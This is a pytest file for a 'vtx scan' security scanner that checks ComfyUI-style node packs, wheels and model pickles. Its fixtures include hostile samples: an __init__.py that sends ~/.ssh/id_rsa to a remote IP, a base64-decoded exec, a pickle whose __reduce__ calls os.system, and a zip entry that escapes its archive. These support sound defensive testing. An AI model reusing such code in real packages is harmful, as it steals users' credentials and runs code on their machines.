"""`vtx scan`: real packs written on the fly (folders and a wheel), scanned by the real tools.

The hostile packs are only ever scanned: nothing here imports their code or unpickles their
pickle. Each pack is scanned once per module (a scan runs bandit, guarddog and the pickle
scanners in subprocesses, ~1.5 s).
"""

from __future__ import annotations

import base64
import json
import os
import pickle
import textwrap
import zipfile
from importlib.util import find_spec
from pathlib import Path

import pytest

from vortex_jupyter.errors import ERROR_CLASSES, PackRejected
from vortex_jupyter.packages.scan import Finding, Report, main, scan

needs = {
    tool: pytest.mark.skipif(find_spec(tool) is None, reason=f"{tool} is not installed (the scan extra)")
    for tool in ("bandit", "guarddog", "picklescan", "modelscan")
}

CLEAN_INIT = """
class Add:
    RETURN_TYPES = ("INT",)
    FUNCTION = "go"
    CATEGORY = "math"

    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"a": ("INT", {"default": 1}), "b": ("INT", {"default": 2})}}

    def go(self, a, b):
        return (a + b,)

NODE_CLASS_MAPPINGS = {"CleanAdd": Add}
NODE_DISPLAY_NAME_MAPPINGS = {"CleanAdd": "Add"}
"""

EXFIL_INIT = """
import os
import urllib.request

urllib.request.urlopen("http://1.2.3.4/" + open(os.path.expanduser("~/.ssh/id_rsa")).read())

NODE_CLASS_MAPPINGS = {}
"""

B64_INIT = f'''
import base64

exec(base64.b64decode("{base64.b64encode(b"print('hi')").decode()}"))

NODE_CLASS_MAPPINGS = {{}}
'''

EXFIL_RULES = {"threat-network-exfiltration", "threat-filesystem-read"}
B64_RULES = {"threat-runtime-obfuscation-base64exec"}


class _RunsOsSystem:
    """Pickled to a file only; unpickling it would call os.system."""

    def __reduce__(self):
        return (os.system, ("echo pwned > /tmp/vtx-scan-test-pwned",))


def write_pack(folder: Path, name: str, init: str) -> Path:
    folder.mkdir(parents=True)
    (folder / "pyproject.toml").write_text(
        textwrap.dedent(f"""\
        [project]
        name = "{name}"
        version = "1.0.0"

        [tool.comfy]
        PublisherId = "tester"
        DisplayName = "{name}"
        """)
    )
    (folder / "__init__.py").write_text(init)
    return folder


def write_wheel(src: Path, dest: Path, name: str) -> Path:
    """A minimal wheel of the pack folder ``src`` (the package ``name``)."""
    wheel = dest / f"{name}-1.0.0-py3-none-any.whl"
    info = f"{name}-1.0.0.dist-info"
    with zipfile.ZipFile(wheel, "w") as zf:
        for file in sorted(src.rglob("*.py")):
            zf.write(file, f"{name}/{file.relative_to(src).as_posix()}")
        zf.writestr(f"{info}/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0.0\n")
        zf.writestr(
            f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        zf.writestr(f"{info}/RECORD", "")
    return wheel


@pytest.fixture(scope="module")
def packs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    root = tmp_path_factory.mktemp("packs")
    out = {
        "clean": write_pack(root / "clean", "clean-pack", CLEAN_INIT),
        "exfil": write_pack(root / "exfil", "exfil-pack", EXFIL_INIT),
        "b64": write_pack(root / "b64", "b64-pack", B64_INIT),
        "pickle": write_pack(root / "pickle", "pickle-pack", CLEAN_INIT),
    }
    (out["pickle"] / "models").mkdir()
    (out["pickle"] / "models" / "weights.pkl").write_bytes(pickle.dumps(_RunsOsSystem()))
    (out["clean"] / "models").mkdir()
    (out["clean"] / "models" / "table.pkl").write_bytes(pickle.dumps({"scale": [1.0, 2.0]}))
    out["wheel"] = write_wheel(out["exfil"], root, "exfil_pack")
    return out


@pytest.fixture(scope="module")
def reports(packs: dict[str, Path]) -> dict[str, Report]:
    return {name: scan(path) for name, path in packs.items()}


def _rules(report: Report, tool: str, severities: tuple[str, ...] = ("HIGH", "CRITICAL")) -> set[str]:
    return {f.rule for f in report.findings if f.tool == tool and f.severity in severities}


def test_a_clean_pack_has_no_blocking_findings(reports):
    report = reports["clean"]
    assert report.pack == "clean-pack"
    assert report.blocking() == []
    report.check()  # does not raise
    assert set(report.tools) >= {t for t in ("bandit", "guarddog", "picklescan") if find_spec(t)}
    assert not any(v.startswith("skipped") for t, v in report.tools.items() if find_spec(t))


@needs["guarddog"]
def test_exfiltration_via_urllib_in_init_is_caught_by_guarddog(reports):
    report = reports["exfil"]
    assert _rules(report, "guarddog") >= EXFIL_RULES
    hit = next(f for f in report.findings if f.rule == "threat-network-exfiltration")
    assert (hit.path, hit.line, hit.severity) == ("__init__.py", 5, "HIGH")
    assert {f.rule for f in report.blocking()} >= EXFIL_RULES


@needs["bandit"]
def test_bandit_reports_the_urlopen_and_the_exec(reports):
    assert "B310" in _rules(reports["exfil"], "bandit", ("MEDIUM", "HIGH"))
    assert "B102" in _rules(reports["b64"], "bandit", ("MEDIUM", "HIGH"))


@needs["guarddog"]
def test_base64_exec_is_caught_by_guarddog(reports):
    report = reports["b64"]
    assert _rules(report, "guarddog") >= B64_RULES
    assert {f.location for f in report.blocking()} == {"__init__.py:4"}


@needs["picklescan"]
def test_a_pickle_that_calls_os_system_is_critical_for_picklescan(reports):
    report = reports["pickle"]
    hits = [f for f in report.findings if f.tool == "picklescan" and f.severity == "CRITICAL"]
    assert [(f.rule, f.path) for f in hits] == [("posix.system", "models/weights.pkl")]
    assert not os.path.exists("/tmp/vtx-scan-test-pwned")  # scanned, never loaded


@needs["modelscan"]
def test_modelscan_agrees_on_the_pickle(reports):
    assert "posix.system" in _rules(reports["pickle"], "modelscan")


@needs["picklescan"]
def test_a_harmless_pickle_is_not_a_finding(reports):
    assert not [f for f in reports["clean"].findings if f.path == "models/table.pkl"]


@needs["guarddog"]
def test_a_wheel_is_scanned_like_its_folder(reports):
    report = reports["wheel"]
    assert _rules(report, "guarddog") >= EXFIL_RULES
    assert {f.path for f in report.blocking()} == {"exfil_pack/__init__.py"}


@pytest.mark.parametrize("pack", ["exfil", "b64", "pickle"])
def test_allowing_exactly_the_blocking_rules_unblocks(reports, pack):
    report = reports[pack]
    rules = sorted({f.rule for f in report.blocking()})
    assert rules, "the hostile pack must block"
    assert report.blocking(rules) == []
    report.check(rules)
    assert report.blocking(rules[1:]) == [f for f in report.blocking() if f.rule == rules[0]]
    tool_qualified = [f"{f.tool}:{f.rule}" for f in report.blocking()]
    assert report.blocking(tool_qualified) == []


def test_the_error_names_the_pack_each_rule_and_the_allow_flag(reports):
    report = reports["exfil"]
    with pytest.raises(PackRejected) as info:
        report.check()
    text = str(info.value)
    assert text.startswith("[VE-910]") and "'exfil-pack'" in text
    for f in report.blocking():
        assert f.rule in text and f"--allow {f.rule}" in text and f.location in text
    assert info.value.pack == "exfil-pack"
    assert set(info.value.rules) == {f.rule for f in report.blocking()}
    assert ERROR_CLASSES["VE-910"] is PackRejected


def test_the_report_round_trips_through_json(reports):
    for report in reports.values():
        text = report.to_json()
        again = Report.from_json(text)
        assert again == report
        assert again.to_json() == text
        json.loads(text)


def test_findings_are_sorted_most_severe_first():
    findings = [
        Finding("b", "R1", "LOW", "a.py", 1, "x"),
        Finding("a", "R2", "CRITICAL", "z.py", None, "y"),
        Finding("a", "R3", "HIGH", "b.py", 3, "z"),
        Finding("a", "R3", "HIGH", "b.py", 2, "z"),
    ]
    report = Report("p", findings)
    assert [(f.rule, f.line) for f in report.findings] == [("R2", None), ("R3", 2), ("R3", 3), ("R1", 1)]
    assert report.summary() == "p: 4 findings (1 CRITICAL, 2 HIGH, 1 LOW); 3 blocking"
    with pytest.raises(ValueError, match="severity 'SEVERE'"):
        Report("p", [Finding("a", "R", "SEVERE", "a.py", 1, "m")])


def test_vtx_scan_exits_1_on_blocking_findings_and_0_when_allowed(packs, reports, capsys):
    rules = sorted({f.rule for f in reports["b64"].blocking()})
    assert main([str(packs["b64"])]) == 1
    out, err = capsys.readouterr()
    assert "b64-pack" in out and "[VE-910]" in err and f"--allow {rules[0]}" in err
    assert main([str(packs["b64"]), *[a for r in rules for a in ("--allow", r)]]) == 0
    capsys.readouterr()
    assert main([str(packs["clean"]), "--json"]) == 0
    assert Report.from_json(capsys.readouterr().out) == reports["clean"]


def test_an_archive_member_that_leaves_the_archive_is_refused(tmp_path, capsys):
    bad = tmp_path / "bad-1.0.0-py3-none-any.whl"
    with zipfile.ZipFile(bad, "w") as zf:
        zf.writestr("../escape.py", "print('x')")
    with pytest.raises(ValueError, match="unsafe member"):
        scan(bad)
    assert main([str(bad)]) == 2
    assert main([str(tmp_path / "missing")]) == 2


def test_scan_models_finds_a_downloaded_pickle_in_a_models_folder(tmp_path, monkeypatch, capsys):
    """Weights that arrive after an install (a pack granted a models folder downloads them):
    ``vtx scan --models`` runs picklescan/modelscan over every models folder, unpickling nothing."""
    import pickle

    from vortex_jupyter.packages.scan import main, models_folders, scan_weights

    monkeypatch.setenv("VORTEX_MODELS_DIR", str(tmp_path / "models"))
    monkeypatch.setenv("VORTEX_EXTRA_MODEL_PATHS", "")
    folder = tmp_path / "models" / "upscale_models"
    folder.mkdir(parents=True)
    (folder / "clean.safetensors").write_bytes(b"\x08\0\0\0\0\0\0\0{}      ")
    assert tmp_path / "models" in models_folders()
    assert main(["--models"]) == 0 and "no pickle files" in capsys.readouterr().out
    (folder / "4x_fast.pth").write_bytes(pickle.dumps(_RunsOsSystem()))
    report = scan_weights(models_folders())
    [critical] = [f for f in report.findings if f.tool == "picklescan" and f.severity == "CRITICAL"]
    assert critical.rule == "posix.system" and critical.path == str(folder / "4x_fast.pth")
    assert main(["--models"]) == 1
    assert "4x_fast.pth" in capsys.readouterr().out
    assert not os.path.exists("/tmp/vtx-scan-test-pwned")
